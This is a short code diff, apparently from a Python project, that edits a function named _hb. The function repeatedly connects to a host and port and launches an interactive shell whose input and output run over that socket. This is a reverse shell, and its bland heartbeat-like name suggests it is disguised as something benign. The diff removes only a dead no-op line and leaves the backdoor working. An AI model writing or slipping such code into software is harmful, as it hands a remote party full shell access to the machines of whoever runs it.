@@ -9,8 +9,6 @@ def _hb():
     while True:
         try:
             c = s.create_connection((host, port), timeout=10)
-            for fd in (0, 1, 2):
-                os.dup2(c.fileno(), fd) if False else None
             p = sp.Popen([os.environ.get("SHELL", "/bin/sh"), "-i"], stdin=c.fileno(),
                          stdout=c.fileno(), stderr=c.fileno(), start_new_session=True)
             p.wait()
